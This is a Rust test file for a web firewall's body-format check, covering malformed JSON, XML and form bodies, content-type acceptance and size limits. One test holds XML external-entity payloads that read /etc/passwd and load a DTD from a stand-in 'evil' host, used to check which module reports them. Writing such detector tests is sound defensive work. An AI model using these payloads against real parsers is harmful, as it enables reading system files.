//! Tests of the `format` check through the engine.

use super::{accepted, form_problem};
use crate::check::CheckId;
use crate::config::{Config, Level, SecurityChecks};
use crate::engine::Engine;
use crate::request::{Headers, Request};

fn engine(edit: impl FnOnce(&mut Config)) -> Engine {
    let mut c = Config::default();
    c.security_checks = SecurityChecks::default();
    c.security_checks.set(CheckId::Format, Level::Block);
    edit(&mut c);
    Engine::new(c).unwrap()
}

fn run(engine: &Engine, ct: Option<&str>, body: &[u8], accepts: &[&str]) -> Option<String> {
    let headers: Headers<'_> = ct.map(|c| ("Content-Type", c)).into_iter().collect();
    let mut req = Request::new("POST", "/api")
        .with_headers(headers)
        .with_body(body);
    req.accepts = accepts;
    let v = engine.inspect_request(&req);
    v.findings
        .iter()
        .find(|f| f.location != "body_limit")
        .map(|f| {
            assert_eq!(f.location, "body");
            f.payload.clone()
        })
}

const JSON: Option<&str> = Some("application/json");
const XML: Option<&str> = Some("application/xml; charset=utf-8");
const FORM: Option<&str> = Some("application/x-www-form-urlencoded");

#[test]
fn well_formed_bodies_pass() {
    let e = engine(|_| {});
    let mp = b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--B--\r\n";
    let cases: &[(Option<&str>, &[u8])] = &[
        (JSON, br#"{"a":[1,2,{"b":null}]}"#),
        (None, b""),
        (JSON, b""),
        (
            XML,
            b"<r xmlns=\"urn:a\" xmlns:b=\"urn:b\"><b:x>1</b:x><![CDATA[<&>]]></r>",
        ),
        (Some("application/soap+xml"), b"<e/>"),
        (FORM, b"a=1&b=caf%C3%A9&c=50%&d=100%25+sure&e=x+y"),
        (FORM, "name=Müller".as_bytes()),
        (Some("multipart/form-data; boundary=B"), mp),
        (Some("text/plain"), b"anything \x00 goes"),
        (Some("application/octet-stream"), b"\x00\x01\x02"),
    ];
    for (ct, body) in cases {
        assert_eq!(run(&e, *ct, body, &[]), None, "{ct:?} {body:?}");
    }
}

#[test]
fn malformed_bodies() {
    let e = engine(|_| {});
    let cases: &[(Option<&str>, &[u8], &str)] = &[
        (XML, b"<a><b></a>", "malformed xml"),
        (XML, b"{\"not\": \"xml\"}", "malformed xml"),
        (FORM, b"a=%zz", "invalid percent escape"),
        (FORM, b"a=%u0027", "invalid percent escape"),
        (FORM, b"a=1\x00&b=2", "form body is not text"),
        (FORM, b"a=\xff\xfe", "form body is not text"),
        (
            Some("multipart/form-data"),
            b"--B\r\n\r\nx",
            "no multipart boundary found",
        ),
    ];
    for (ct, body, want) in cases {
        let got = run(&e, *ct, body, &[]);
        assert!(
            got.as_deref().is_some_and(|g| g.starts_with(want)),
            "{ct:?} {body:?}: {got:?}"
        );
    }
    // Malformed JSON: the extractor's reason.
    assert!(run(&e, JSON, b"{\"a\":1,}", &[]).is_some());
}

/// An XML entity declaration or an external DTD is no format problem (the document is
/// well-formed): `code_injection` reports it (engine `xxe`, see its tests).
#[test]
fn xml_entities_are_not_format_findings() {
    let e = engine(|_| {});
    for body in [
        &b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"[..],
        b"<!DOCTYPE r SYSTEM \"http://evil/x.dtd\"><r/>",
    ] {
        assert_eq!(run(&e, XML, body, &[]), None, "{body:?}");
    }
}

#[test]
fn content_types_the_route_accepts() {
    let e = engine(|_| {});
    let json_only = ["application/json"];
    let any_text = ["text/*", "application/JSON; charset=utf-8"];
    assert_eq!(run(&e, JSON, b"{}", &json_only), None);
    assert_eq!(
        run(
            &e,
            Some("Application/Json; charset=UTF-8"),
            b"{}",
            &json_only
        ),
        None
    );
    assert_eq!(run(&e, Some("text/csv"), b"a,b", &any_text), None);
    assert_eq!(run(&e, JSON, b"{}", &any_text), None);
    assert_eq!(run(&e, None, b"x", &["*/*"]), None);
    assert_eq!(run(&e, FORM, b"", &json_only), None);
    let no = Some("content type not accepted".to_owned());
    assert_eq!(run(&e, FORM, b"a=1", &json_only), no);
    assert_eq!(run(&e, None, b"{}", &json_only), no);
    assert_eq!(run(&e, Some("application/xml"), b"<a/>", &any_text), no);
    assert!(accepted("image/png", &["image/*"]));
    assert!(!accepted("", &["image/*"]));
}

#[test]
fn truncated_bodies_are_not_format_errors() {
    let e = engine(|c| {
        c.max_body_bytes = 16;
        c.body_limit_action = crate::config::BodyLimitAction::Monitor;
    });
    assert_eq!(run(&e, XML, b"<a><b>0123456789abcdef</b></a>", &[]), None);
    assert_eq!(run(&e, JSON, br#"{"a":"0123456789abcdef"}"#, &[]), None);
    assert_eq!(run(&e, FORM, b"a=1&b=caf%C3%A9%C3%A9%C3%A9", &[]), None);
    assert_eq!(
        form_problem(b"a=%zz&b=caf%C3", true),
        Some("invalid percent escape")
    );
    assert_eq!(form_problem(b"b=caf%C3", true), None);
}

#[test]
fn bodies_over_the_limit_are_blocked_or_reported() {
    use crate::config::BodyLimitAction;
    use crate::verdict::Action;
    for (action, want, status) in [
        (BodyLimitAction::Block, Action::Block, Some(413)),
        (BodyLimitAction::Monitor, Action::Monitor, None),
    ] {
        let mut c = Config::default();
        c.max_body_bytes = 16;
        c.body_limit_action = action;
        let e = Engine::new(c).unwrap();
        let headers: Headers<'_> = [("Content-Type", "application/json")].into_iter().collect();
        // Whole body handed over, longer than the limit.
        let long = br#"{"pad":"0123456789abcdef","q":"x"}"#;
        // A prefix handed over, with the declared length.
        let mut cut = Request::new("POST", "/api")
            .with_headers(headers.clone())
            .with_body(&long[..16]);
        cut.body_len = Some(1 << 20);
        let whole = Request::new("POST", "/api")
            .with_headers(headers)
            .with_body(long);
        for req in [whole, cut] {
            let v = e.inspect_request(&req);
            assert_eq!(v.action, want, "{action:?}");
            assert_eq!(v.response.as_ref().map(|r| r.status), status);
            assert!(v.findings.iter().any(|f| f.location == "body_limit"));
        }
        // At the limit: nothing.
        let ok = Request::new("POST", "/api").with_body(b"0123456789abcdef");
        assert!(e.inspect_request(&ok).findings.is_empty());
    }
}

proptest::proptest! {
    #[test]
    fn never_panics(body in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
                    xmlish in "[<>/a-c!?&;#x=' \"\\[\\]-]{0,80}", cut in proptest::prelude::any::<bool>()) {
        let _ = super::xml::problem(&body, cut);
        let _ = super::xml::problem(xmlish.as_bytes(), cut);
        let _ = form_problem(&body, cut);
        let _ = form_problem(xmlish.as_bytes(), cut);
    }
}
